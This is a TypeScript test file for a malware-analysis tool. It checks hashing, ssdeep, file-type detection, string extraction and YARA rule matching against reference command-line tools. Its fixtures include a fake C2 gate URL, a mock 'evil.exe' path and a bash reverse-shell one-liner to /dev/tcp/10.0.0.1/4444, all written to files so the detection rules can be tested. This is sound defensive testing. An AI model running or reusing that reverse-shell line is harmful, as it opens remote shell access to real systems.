import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { describeFile, digestFile } from '../../src/processing/fileinfo.js';
import { scanFile, StringCollector, StringScanner, type FoundString } from '../../src/processing/strings.js';
import { YaraScanner } from '../../src/processing/yara.js';
import { FileTypeDetector } from '../../src/storage/filetype.js';

/** File facts compared with the reference tools: coreutils digests, python's zlib.crc32, ssdeep, file and GNU strings. */

const run = (command: string, args: string[]) => execFileSync(command, args, { encoding: 'utf8', maxBuffer: 64 << 20, env: { ...process.env, LC_ALL: 'C' } });

describe('file facts', () => {
  let dir: string;
  let fileType: FileTypeDetector;
  let sample: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'nestbox-fileinfo-'));
    fileType = new FileTypeDetector();
    sample = join(dir, 'sample.bin');
    const wide = Buffer.from('C:\\Users\\victim\\AppData\\evil.exe\0', 'utf16le');
    writeFileSync(
      sample,
      Buffer.concat([
        randomBytes(5000),
        Buffer.from('\0connect to http://c2.example.net:8080/gate.php?id=1 now\0'),
        Buffer.from([0x41]), // shifts the next wide string to an odd offset
        wide,
        Buffer.from('\0tab\tinside the string\0short\0'),
        Buffer.from('https://wide.example.org/x', 'utf16le'),
        randomBytes(3000),
      ]),
    );
  });
  after(() => {
    fileType.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('hashes like md5sum, sha*sum and zlib.crc32, in one pass', async () => {
    const facts = await digestFile(sample);
    for (const algorithm of ['md5', 'sha1', 'sha256', 'sha512'] as const) {
      assert.equal(facts[algorithm], run(`${algorithm}sum`, [sample]).split(' ')[0]);
    }
    const crc = run('/usr/bin/python3', ['-c', "import sys,zlib; print('%08X' % zlib.crc32(open(sys.argv[1],'rb').read()))", sample]).trim();
    assert.equal(facts.crc32, crc);
    assert.match(facts.crc32, /^[0-9A-F]{8}$/);
    assert.equal(facts.size, Number(run('stat', ['-c', '%s', sample])));
  });

  it('finds URLs in ASCII and UTF-16 text', async () => {
    const facts = await digestFile(sample);
    assert.deepEqual(facts.urls, ['http://c2.example.net:8080/gate.php?id=1', 'https://wide.example.org/x']);
  });

  it('gives the ssdeep CLI digest and the type libmagic gives', async () => {
    const info = await describeFile(sample, { fileType, yara: new YaraScanner([], dir) }, { name: 'original.bin' });
    const reference = run('ssdeep', ['-s', sample]).split('\n')[1]!.split(',')[0];
    assert.equal(info.ssdeep, reference);
    assert.equal(info.type, run('file', ['-b', sample]).trim());
    assert.equal(info.name, 'original.bin');
    assert.equal((await describeFile('/bin/ls', { fileType, yara: new YaraScanner([], dir) })).type, run('file', ['-b', '/bin/ls']).trim());
  });

  it('gives the ssdeep CLI digest for files of every size, as uploads are hashed', async () => {
    const files = [join(dir, 'tiny'), join(dir, 'name with spaces, commas.bin'), '/bin/ls', join(dir, 'large.bin')];
    writeFileSync(files[0]!, 'abc');
    writeFileSync(files[1]!, randomBytes(9000));
    writeFileSync(files[3]!, Buffer.concat([randomBytes(3 << 20), Buffer.alloc(1 << 20, 7)]));
    for (const file of files) {
      const reference = run('ssdeep', ['-s', '-b', file]).split('\n')[1]!.split(',')[0];
      assert.equal((await digestFile(file)).ssdeep, reference, file);
    }
  });

  it('refuses links and special files rather than reading through them', async () => {
    const link = join(dir, 'link-to-passwd');
    symlinkSync('/etc/passwd', link);
    await assert.rejects(digestFile(link));
    const fifo = join(dir, 'fifo');
    execFileSync('mkfifo', [fifo]);
    await assert.rejects(digestFile(fifo), /not a regular file/);
  });

  it('extracts the strings GNU strings extracts, ASCII and UTF-16LE', async () => {
    for (const file of [sample, '/bin/ls']) {
      const ascii: string[] = [];
      const wide: FoundString[] = [];
      await scanFile(file, new StringScanner((found) => (found.wide ? wide.push(found) : ascii.push(found.text))));
      assert.deepEqual(ascii, run('strings', ['-a', '-n', '6', file]).split('\n').slice(0, -1), `ASCII strings of ${file}`);
      const gnuWide = run('strings', ['-a', '-n', '6', '-e', 'l', file]).split('\n').slice(0, -1);
      assert.deepEqual(wide.sort((a, b) => a.offset - b.offset).map((found) => found.text), gnuWide, `UTF-16 strings of ${file}`);
    }
  });

  it('lists ASCII strings before UTF-16 ones and keeps to 2048 strings of 1024 characters', async () => {
    const collector = new StringCollector();
    await scanFile(sample, new StringScanner(collector.sink));
    const strings = collector.result();
    assert.ok(strings.indexOf('connect to http://c2.example.net:8080/gate.php?id=1 now') < strings.indexOf('C:\\Users\\victim\\AppData\\evil.exe'));
    assert.ok(strings.includes('tab\tinside the string'));
    assert.ok(!strings.includes('short'));

    const many = join(dir, 'many');
    const long = 'x'.repeat(5000);
    writeFileSync(many, Array.from({ length: 3000 }, (_, i) => `string-${i}`).join('\0') + `\0${long}\0`);
    const capped = new StringCollector();
    await scanFile(many, new StringScanner(capped.sink));
    assert.equal(capped.result().length, 2048);
    assert.equal(capped.result()[2047], 'string-2047');
    const tail = join(dir, 'long');
    writeFileSync(tail, `${long}\0`);
    const cut = new StringCollector();
    await scanFile(tail, new StringScanner(cut.sink, 6, 2000));
    assert.deepEqual(cut.result(), ['x'.repeat(1024)], 'a long run is one string, cut to 1024 characters');
  });

  it('keeps memory bounded on a run longer than a segment and reports its continuation', async () => {
    const pieces: FoundString[] = [];
    const scanner = new StringScanner((found) => pieces.push(found), 6, 100);
    scanner.push(Buffer.from('a'.repeat(150)));
    scanner.push(Buffer.from('b'.repeat(100) + '\0'));
    scanner.end();
    assert.deepEqual(pieces.map((piece) => [piece.text.length, piece.continued, piece.offset]), [[100, false, 0], [100, true, 100], [50, true, 200]]);
  });
});

describe('YARA scanning with the yara CLI', () => {
  let dir: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'nestbox-yara-'));
    mkdirSync(join(dir, 'rules', 'nested'), { recursive: true });
    writeFileSync(join(dir, 'rules', 'one.yar'), 'rule find_marker { meta: description = "marker, \\"quoted\\"" score = 7 strings: $a = "MARKER-123" condition: $a }');
    writeFileSync(join(dir, 'rules', 'nested', 'two.yara'), 'rule find_marker { strings: $a = "MARKER-123" wide condition: $a }');
    writeFileSync(join(dir, 'plain.txt'), 'nothing here');
    writeFileSync(join(dir, 'marked.bin'), 'xx MARKER-123 yy');
    writeFileSync(join(dir, 'odd name ] [x].bin'), Buffer.from('MARKER-123', 'utf16le'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('scans many files at once with rules from nested folders; equal rule names in two files do not clash', async () => {
    const scanner = new YaraScanner([join(dir, 'rules'), join(dir, 'absent')], dir);
    try {
      const results = await scanner.scanMany([join(dir, 'plain.txt'), join(dir, 'marked.bin'), join(dir, 'odd name ] [x].bin')]);
      assert.deepEqual(results.get(join(dir, 'plain.txt')), []);
      assert.deepEqual(results.get(join(dir, 'marked.bin')), [{ name: 'find_marker', meta: { description: 'marker, "quoted"', score: '7' }, strings: ['MARKER-123'] }]);
      assert.deepEqual(results.get(join(dir, 'odd name ] [x].bin')), [{ name: 'find_marker', meta: {}, strings: ['M\\x00A\\x00R\\x00K\\x00E\\x00R\\x00-\\x001\\x002\\x003\\x00'] }]);
      assert.deepEqual(scanner.problems, []);
    } finally {
      await scanner.close();
    }
  });

  it('leaves out a rule file that does not compile and says which', async () => {
    writeFileSync(join(dir, 'rules', 'broken.yar'), 'rule broken { condition: nonsense( }');
    const scanner = new YaraScanner([join(dir, 'rules')], dir);
    try {
      const matches = await scanner.scan(join(dir, 'marked.bin'));
      assert.equal(matches.length, 1);
      assert.equal(scanner.problems.length, 1);
      assert.match(scanner.problems[0]!, /broken\.yar do not compile/);
    } finally {
      await scanner.close();
      rmSync(join(dir, 'rules', 'broken.yar'));
    }
  });

  it('ships rules that compile and match what they describe', async () => {
    const { SHIPPED_RULES_DIR } = await import('../../src/processing/yara.js');
    const scanner = new YaraScanner([SHIPPED_RULES_DIR], dir);
    try {
      writeFileSync(join(dir, 'revshell.sh'), '#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n');
      writeFileSync(join(dir, 'miner.json'), '{"url": "stratum+tcp://pool.example:3333"}');
      const results = await scanner.scanMany([join(dir, 'revshell.sh'), join(dir, 'miner.json'), join(dir, 'plain.txt')]);
      assert.deepEqual(results.get(join(dir, 'revshell.sh'))!.map((match) => match.name), ['shell_reverse_connection']);
      assert.deepEqual(results.get(join(dir, 'miner.json'))!.map((match) => match.name), ['crypto_miner']);
      assert.deepEqual(results.get(join(dir, 'plain.txt')), []);
      assert.deepEqual(scanner.problems, []);
    } finally {
      await scanner.close();
    }
  });
});
